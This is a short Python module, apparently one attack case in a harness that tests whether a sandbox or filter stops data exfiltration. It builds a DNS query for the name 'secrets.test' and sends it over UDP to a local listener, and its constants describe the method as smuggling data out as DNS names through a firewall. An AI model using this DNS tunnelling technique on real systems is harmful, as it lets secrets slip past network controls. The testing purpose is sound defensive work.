"""Ask a name server about a name that carries a secret."""

from __future__ import annotations

import socket
import struct
from typing import Any

EVIDENCE = "connected"
STOPPED_BY = "filter"
MEANS = "it sends what it read out as names, also through a firewall"
NEEDS = ("listeners",)


def attack(at: Any) -> None:
    question = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + b"\x07secrets\x04test\0\0\x01\0\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.connect(("127.0.0.1", at.udp))
        resolver.sendmsg([question])
